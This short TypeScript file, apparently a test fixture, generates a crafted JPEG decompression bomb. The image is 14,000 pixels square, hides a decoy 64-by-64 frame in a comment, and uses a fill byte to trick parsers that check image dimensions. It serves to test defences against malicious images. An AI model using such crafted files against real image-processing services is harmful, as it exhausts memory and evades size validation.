const be = (value: number) => [value >> 8, value & 0xff]
const segment = (marker: number, bytes: number[] | Buffer) =>
  Buffer.concat([Buffer.from([0xff, marker, ...be(bytes.length + 2)]), Buffer.from(bytes)])
const frameOf = (side: number) => segment(0xc0, [8, ...be(side), ...be(side), 1, 1, 0x11, 0])

/**
 * A complete JPEG in less than a megabyte, gray and 14,000 pixels wide and high. A fill byte, which
 * the format allows, is before its frame; a reader that takes it for a marker continues at a frame
 * of 64 by 64 in a comment.
 */
export function fillByteBomb(side = 14_000): Buffer {
  const start = Buffer.from([0xff, 0xd8])
  const frame = Buffer.concat([Buffer.from([0xff]), frameOf(side)])
  const comment = Buffer.alloc(65_000)
  const decoyAt = start.length + 2 + 0xc000
  frameOf(64).copy(comment, decoyAt - start.length - frame.length - 4)
  // One code of one bit in each table: no difference, and the end of the block.
  const oneCode = [1, ...Array<number>(15).fill(0), 0]
  const blocks = Math.ceil(side / 8) ** 2
  return Buffer.concat([
    ...[start, frame, segment(0xfe, comment)],
    segment(0xdb, [0, ...Array<number>(64).fill(1)]),
    ...[segment(0xc4, [0x00, ...oneCode]), segment(0xc4, [0x10, ...oneCode])],
    segment(0xda, [1, 1, 0, 0, 63, 0]),
    Buffer.alloc(Math.ceil(blocks / 4)),
    Buffer.from([0xff, 0xd9]),
  ])
}
